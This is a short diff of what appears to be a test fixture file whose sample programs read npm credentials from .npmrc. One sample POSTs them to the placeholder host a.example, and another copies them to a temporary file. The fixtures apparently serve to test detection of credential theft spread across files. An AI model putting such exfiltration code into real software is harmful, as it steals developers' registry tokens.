@@ -34,7 +34,7 @@ PROGRAMS = (
     },
     {
         "scripts/b.js": b"exports.g = () => require('fs').readFileSync('/root/.npmrc');\n",
-        "scripts/run.js": b"const { g } = require('./b');\nfetch('https://a.example', { method: 'POST', body: g() });\n",
+        "scripts/run.js": b"const b = require('./b');\nfetch('https://a.example', { method: 'POST', body: b.g() })\n",
     },
     {
         "scripts/c.sh": b"g() { cat ~/.npmrc > /tmp/kept.txt; }\n",
